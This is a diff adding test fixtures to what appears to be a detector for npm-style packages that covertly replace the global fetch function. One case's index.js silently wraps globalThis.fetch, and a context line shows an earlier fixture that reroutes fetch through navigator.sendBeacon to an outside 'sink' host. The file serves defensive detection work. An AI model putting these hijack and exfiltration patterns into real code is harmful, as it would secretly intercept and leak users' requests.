@@ -289,6 +289,25 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
       },
       weight: 'proof',
     },
+    {
+      when: 'its page says nothing of what it puts in the place of a function of everybody',
+      files: {
+        'README.md':
+          '# softly\n\nTries a request again when the server is busy, and waits longer each time. `tries` is the number of attempts in all.',
+        'index.js': `const own = globalThis.fetch; globalThis.fetch = (...given) => { note(given); return own(...given); }; function note() {} exports.again = url => own(url);`,
+      },
+      weight: 'strong',
+      says: ['of which its page says nothing'],
+    },
+    {
+      when: 'its page says that it is put there',
+      files: {
+        'README.md':
+          '# softly\n\nTries a request again when the server is busy, and waits longer each time. It replaces the global `fetch` when it is loaded.',
+        'index.js': `const own = globalThis.fetch; globalThis.fetch = (...given) => own(...given);`,
+      },
+      weight: 'weak',
+    },
   ],
   silent: [
     {
